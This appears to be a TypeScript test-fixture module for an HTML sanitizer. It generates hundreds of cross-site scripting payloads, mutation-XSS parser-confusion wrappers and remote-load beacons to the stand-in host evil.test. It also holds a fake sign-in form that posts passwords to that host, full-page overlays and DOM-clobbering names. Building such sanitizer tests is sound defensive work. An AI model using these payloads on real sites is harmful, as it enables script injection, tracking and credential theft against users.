// What runs if any of it survives: the page's `hit`, which a test defines and counts.
const RUN = 'hit()'
const FAR = 'http://evil.test/beacon'

const SPELLINGS: readonly ((word: string) => string)[] = [
  word => word,
  word => word.toUpperCase(),
  word => [...word].map(char => `&#${char.charCodeAt(0)};`).join(''),
  word => [...word].map(char => `&#x${char.charCodeAt(0).toString(16)};`).join(''),
  word => `${word.slice(0, 2)}\t${word.slice(2)}`,
  word => `${word.slice(0, 2)}\n${word.slice(2)}`,
  word => `${word.slice(0, 2)}&NewLine;${word.slice(2)}`,
  word => `\u0001 ${word}`,
  word => `${word.slice(0, 4)}\u0000${word.slice(4)}`,
]

const SCHEMES = [
  'javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'file:',
  'view-source:javascript:',
]
const LINK_PLACES: readonly ((url: string) => string)[] = [
  url => `<a href="${url}${RUN}">x</a>`,
  url => `<a href='${url}${RUN}' target=_top>x</a>`,
  url => `<img src="${url}${RUN}">`,
  url => `<iframe src="${url}${RUN}"></iframe>`,
  url => `<form action="${url}${RUN}"><input type=submit></form>`,
  url => `<button formaction="${url}${RUN}">x</button>`,
  url => `<object data="${url}${RUN}"></object>`,
  url => `<embed src="${url}${RUN}">`,
  url => `<svg><a xlink:href="${url}${RUN}"><text>x</text></a></svg>`,
  url => `<math href="${url}${RUN}">x</math>`,
  url => `<meta http-equiv=refresh content="0;url=${url}${RUN}">`,
  url => `<base href="${url}//">`,
  url => `<link rel=stylesheet href="${url}${RUN}">`,
]

const EVENTS =
  'onerror onload ontoggle onclick onmouseover onfocus onbegin onanimationstart onpointerenter onscroll onbeforeinput'.split(
    ' ',
  )
const CARRIERS: readonly ((event: string) => string)[] = [
  event => `<img src=x ${event}=${RUN}>`,
  event => `<svg ${event}=${RUN}>`,
  event => `<svg><animate ${event}=${RUN} attributeName=x dur=1s>`,
  event => `<details open ${event}=${RUN}>x</details>`,
  event => `<body ${event}=${RUN}>`,
  event => `<video ${event}=${RUN}><source ${event}=${RUN}></video>`,
  event => `<input autofocus ${event}=${RUN}>`,
  event => `<a href="#" style="x:y"/${event}=${RUN}>x</a>`,
  event => `<p title="a"${event}=${RUN} b='>'>x</p>`,
  event => `<div title='"><img src=x ${event}=${RUN}>'>x</div>`,
  event => `<td title=\`a ${event}=${RUN}\`>x</td>`,
  event => `<marquee ${event}=${RUN}>x</marquee>`,
]

// Text that one parser takes for markup and another for text (A02).
const SHELLS: readonly ((inner: string) => string)[] = [
  inner =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
  inner => `<svg></p><style><a id="</style>${inner}">`,
  inner => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  inner => `<noscript><p title="</noscript>${inner}">`,
  inner => `<textarea><p title="</textarea>${inner}">`,
  inner => `<title><p title="</title>${inner}">`,
  inner => `<xmp><p title="</xmp>${inner}">`,
  inner => `<noembed><p title="</noembed>${inner}">`,
  inner => `<iframe><p title="</iframe>${inner}">`,
  inner => `<template>${inner}</template>`,
  inner => `<select><template>${inner}</template></select>`,
  inner => `<table><caption>${inner}</table>`,
  inner => `<!--><p title="-->${inner}">`,
  inner => `<!--!> --!>${inner}`,
  inner => `<![CDATA[>${inner}]]>`,
  inner => `<?xml ?>${inner}`,
  inner => `<!DOCTYPE x [<!ENTITY y '${inner}'>]>&y;`,
  inner => `<plaintext>${inner}`,
  inner => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  inner => `<svg><desc><![CDATA[</desc>${inner}]]></svg>`,
  inner => `<img alt="<x" title='/>${inner}'>`,
  inner => `<a title="&quot;>${inner}">x</a>`,
  inner => `<img src="cid:a&quot;>${inner.replaceAll('"', '&quot;')}">`,
  inner => `<p style="color:red&quot;>${inner.replaceAll('"', '&quot;')}">x</p>`,
  inner => `<scr<script>ipt>${inner}</scr</script>ipt>`,
  inner => `<<b>${inner.slice(1)}`,
  inner => `<b\u0000 ${inner}`,
  inner => `\uFF1Cscript\uFF1E${inner}`,
]
const INNERS = [
  `<img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `<svg onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
]

// What asks another host for something, without any script (A08, A09).
const BEACONS = [
  `<img src="${FAR}">`,
  `<img srcset="${FAR} 2x">`,
  `<picture><source srcset="${FAR}"><img></picture>`,
  `<body background="${FAR}">`,
  `<table background="${FAR}"><tr><td background="${FAR}">x</table>`,
  `<video poster="${FAR}" src="${FAR}" autoplay></video>`,
  `<audio src="${FAR}" autoplay></audio>`,
  `<video><track default src="${FAR}"></video>`,
  `<link rel=stylesheet href="${FAR}">`,
  `<link rel=preload as=image href="${FAR}">`,
  `<link rel=dns-prefetch href="//evil.test">`,
  `<link rel=preconnect href="//evil.test">`,
  `<style>@import "${FAR}";</style>`,
  `<style>@font-face{font-family:x;src:url(${FAR})}p{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${FAR})}</style>`,
  `<p style="background:url(${FAR})">x</p>`,
  `<p style="background-image:url('${FAR}')">x</p>`,
  `<p style="background:u\\72l(${FAR})">x</p>`,
  `<p style="background:/**/url/**/(${FAR})">x</p>`,
  `<p style="list-style-image:url(${FAR})">x</p>`,
  `<p style="border-image:url(${FAR})">x</p>`,
  `<p style="cursor:url(${FAR}),auto">x</p>`,
  `<p style="content:url(${FAR})">x</p>`,
  `<p style="--x:url(${FAR});background:var(--x)">x</p>`,
  `<p style="background:image-set('${FAR}' 1x)">x</p>`,
  `<p style="color:red;background:-webkit-image-set('${FAR}' 1x)">x</p>`,
  `<svg><image href="${FAR}"></svg>`,
  `<svg><image xlink:href="${FAR}"></svg>`,
  `<svg><use href="${FAR}#a"></svg>`,
  `<svg><filter id=f><feImage href="${FAR}"></filter></svg>`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
  `<iframe src="${FAR}"></iframe>`,
  `<object data="${FAR}"></object>`,
  `<embed src="${FAR}">`,
  `<input type=image src="${FAR}">`,
  `<base href="http://evil.test/"><img src="beacon">`,
  `<img src="//evil.test/beacon">`,
  `<img src="\\\\evil.test\\beacon">`,
  `<img src=" http://evil.test/beacon">`,
  `<img src="h&#116;tp://evil.test/beacon">`,
  `<a ping="${FAR}" href="#">x</a>`,
  `<img lowsrc="${FAR}" dynsrc="${FAR}">`,
  `<html manifest="${FAR}">`,
  `<frameset><frame src="${FAR}"></frameset>`,
  `<applet codebase="${FAR}"></applet>`,
  `<bgsound src="${FAR}">`,
  `<script src="${FAR}"></script>`,
  `<img data-remote-src="${FAR}" src="${FAR}">`,
  `<portal src="${FAR}"></portal>`,
  `<fencedframe src="${FAR}"></fencedframe>`,
]

/** Other traps of a page: controls, overlays, names that shadow the page's own (A09-A11). */
export const TRAPS = [
  '<form action=http://evil.test><input type=password name=p><button>Sign in</button><select><option>x</select><textarea>x</textarea></form>',
  '<dialog open>Your session has ended</dialog>',
  '<div style="position:fixed;inset:0;z-index:99999;width:100%;height:100%;background:red">overlay</div>',
  '<div style="position:absolute;top:-500px">over</div><p style="margin-top:-900px">up</p><p style="transform:translateY(-900px)">up</p>',
  '<a id=location name=cookie href=#>x</a><img name=body><img id=__proto__><form id=x><input name=attributes></form><p id=root>x</p>',
  '<p class="mantine-Button-root" contenteditable draggable=true accesskey=r tabindex=1 is=x-y slot=a part=b>x</p>',
] as const

/** A piece of markup inside everything that one parser takes for text and another for markup. */
export function inShells(inner: string): string[] {
  return SHELLS.map(shell => shell(inner))
}

/** At least 500 ways to run a script or to ask another host, none the same twice. */
export function hostileHtml(): string[] {
  const links = SCHEMES.flatMap(scheme =>
    SPELLINGS.flatMap(spell => LINK_PLACES.map(place => place(spell(scheme)))),
  )
  const events = EVENTS.flatMap(event => CARRIERS.map(carry => carry(event)))
  const shells = SHELLS.flatMap(shell => INNERS.map(shell))
  return [...new Set([...shells, ...events, ...BEACONS, ...links, ...TRAPS])]
}
